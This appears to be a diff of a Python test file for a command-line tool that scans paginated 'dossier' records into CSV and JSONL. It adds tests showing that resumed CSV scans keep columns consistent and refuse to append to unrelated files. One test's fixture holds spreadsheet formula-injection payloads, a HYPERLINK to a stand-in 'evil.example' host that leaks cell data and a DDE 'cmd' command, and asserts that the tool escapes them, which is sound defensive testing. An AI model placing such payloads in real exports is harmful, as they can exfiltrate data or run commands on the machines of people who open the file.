@@ -123,8 +123,8 @@ async def test_scan_writes_no_formula_and_survives_items_that_are_not_objects(
         "description": '=HYPERLINK("http://evil.example/?"&A1,"click")',
         "dossierReference": "+cmd|' /C calc'!A0",
         "siren": "@SUM(1)",
-        "=HYPERLINK(1)": "a hostile column name",
-        "score": -5,
+        "=HYPERLINK(1)": "a hostile field name",
+        "thirdpartyId": -5,
         "documents": [[[]], {"present": True}, "x"],
         "indicators": ["I001", {"indicatorCode": "I001", "state": True}],
     }
@@ -146,6 +146,9 @@ async def test_scan_writes_no_formula_and_survives_items_that_are_not_objects(
         assert "Error" not in result.stderr
         assert "unexpected" not in result.stderr
         assert "4 of the 6 items" in result.stderr, result.stderr
+    # Not a column of the CSV: said, its name written as text there too.
+    assert "1 of the 2 dossiers have fields" in results["d.csv"].stderr, results["d.csv"].stderr
+    assert "no column for, left out of it: '=HYPERLINK(1)" in results["d.csv"].stderr
     assert len((tmp_path / "d.jsonl").read_text().splitlines()) == 2
     rows = list(csv.DictReader(io.StringIO((tmp_path / "d.csv").read_text(), newline="")))
     assert [row["dossierId"] for row in rows] == ["1", "2"]
@@ -153,10 +156,113 @@ async def test_scan_writes_no_formula_and_survives_items_that_are_not_objects(
     assert first["description"].startswith("'=HYPERLINK")
     assert first["dossierReference"] == "'+cmd|' /C calc'!A0"
     assert first["siren"] == "'@SUM(1)"
-    assert first["'=HYPERLINK(1)"] == "a hostile column name"
-    assert first["score"] == "-5"
+    assert first["thirdpartyId"] == "-5"
     assert (first["documents"], first["documents_missing"], first["I001"]) == ("3", "2", "True")
     assert (rows[1]["documents"], rows[1]["I001"]) == ("0", "")
+
+
+def shifting(phase: dict[str, int]) -> Any:
+    """30 dossiers, pages of 10. Phase 1: page 2 fails (the scan stops, a checkpoint is
+    left); dossier 0 has no description. Phase 2: every field in another order, and one
+    the CSV has no column for."""
+
+    def dossier(n: int) -> dict[str, Any]:
+        item: dict[str, Any] = {"dossierId": n, "dossierReference": f"REF-{n}"}
+        item.update({"description": f"desc {n}"} if n else {})
+        item.update(stateLastChangeDate="2024-01-01T10:00:00", documents=[{"present": True}])
+        if phase["n"] == 2:
+            item = {"zzExtra": "new", **dict(reversed(item.items()))}
+        return item
+
+    async def handler(request: Request, out: Writer) -> None:
+        if "/dossiers?" not in request.path:
+            await default_handler(request, out)
+            return
+        query = dict(parse_qsl(urlsplit(request.path).query))
+        number, size = int(query["page"]), int(query["pageSize"])
+        if phase["n"] == 1 and number == 2:
+            await out.reply(400, {"messages": {"error": [{"code": "E001", "message": "no"}]}})
+            return
+        content = [dossier(n) for n in range(number * size, min(30, (number + 1) * size))]
+        await out.reply(
+            200, {"content": content, "page": number, "size": size, "totalElements": 30}
+        )
+
+    return handler
+
+
+def rows_of(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def each_under_its_column(rows: list[dict[str, str]]) -> None:
+    assert [row["dossierId"] for row in rows] == [str(n) for n in range(30)]
+    for n, row in enumerate(rows):
+        assert row["dossierReference"] == f"REF-{n}", row
+        assert row["description"] == (f"desc {n}" if n else ""), row
+        assert row["stateLastChangeDate"] == "2024-01-01T10:00:00", row
+        assert (row["documents"], row["documents_missing"]) == ("1", "0"), row
+
+
+async def test_a_resumed_csv_scan_writes_every_value_under_its_own_column(
+    tmp_path: Path,
+) -> None:
+    """The CSV's columns once came from the first item of each run: a field the first item
+    lacked was dropped, and a resumed run whose items came in another order wrote them
+    under the wrong header, exit 0. The columns are now the same in every run."""
+    phase = {"n": 1}
+    out = tmp_path / "d.csv"
+    args = ("scan", "dossiers", "--out", str(out), "--page-size", "10", "--concurrency", "1")
+    async with Server(shifting(phase)) as server:
+        first = await eattest(server, *args)
+        assert first.exit_code == 1, first.output
+        assert "checkpoint written" in first.stdout + first.stderr
+        phase["n"] = 2
+        second = await eattest(server, *args, "--resume", f"{out}.checkpoint.json")
+    assert second.exit_code == 0, second.output
+    each_under_its_column(rows_of(out))
+    assert "zzExtra" not in out.read_text()
+    lines = [line for line in second.stderr.splitlines() if "zzExtra" in line]
+    assert lines == [
+        f"warning: 10 of the 10 dossiers have fields {out} has no column for, left out of "
+        "it: zzExtra (a .jsonl --out keeps every field)"
+    ], second.stderr
+
+
+async def test_a_resumed_csv_scan_appends_under_the_header_in_the_file(
+    tmp_path: Path,
+) -> None:
+    """Whatever order the file's columns are in (an earlier version wrote its own), the
+    rows appended go under them; a CSV that is not such an output is left alone."""
+    phase = {"n": 1}
+    out, theirs = tmp_path / "d.csv", tmp_path / "theirs.csv"
+    args = ("scan", "dossiers", "--page-size", "10", "--concurrency", "1")
+    async with Server(shifting(phase)) as server:
+        first = await eattest(server, *args, "--out", str(out))
+        assert first.exit_code == 1, first.output
+        before = rows_of(out)
+        columns = list(reversed(before[0]))
+        with out.open("w", encoding="utf-8", newline="") as handle:
+            writer = csv.DictWriter(handle, fieldnames=columns)
+            writer.writeheader()
+            writer.writerows(before)
+        theirs.write_text("name,amount\nbob,3\n", encoding="utf-8")
+        checkpoint = f"{out}.checkpoint.json"
+        phase["n"] = 2
+        asked = len(server.requests)
+        refused = await eattest(server, *args, "--out", str(theirs), "--resume", checkpoint)
+        assert len(server.requests) == asked  # refused before signing in
+        second = await eattest(server, *args, "--out", str(out), "--resume", checkpoint)
+    assert refused.exit_code == 2, refused.output
+    assert refused.stderr.strip().splitlines() == [
+        f"error: cannot append to {theirs}: {theirs} has no dossierId column: not an output "
+        "of this scan, appending would mix two files; choose another --out"
+    ]
+    assert theirs.read_text(encoding="utf-8") == "name,amount\nbob,3\n"
+    assert second.exit_code == 0, second.output
+    assert out.read_text(encoding="utf-8").splitlines()[0] == ",".join(columns)
+    each_under_its_column(rows_of(out))
 
 
 async def test_bounded_takes_an_item_only_when_a_worker_is_free() -> None:
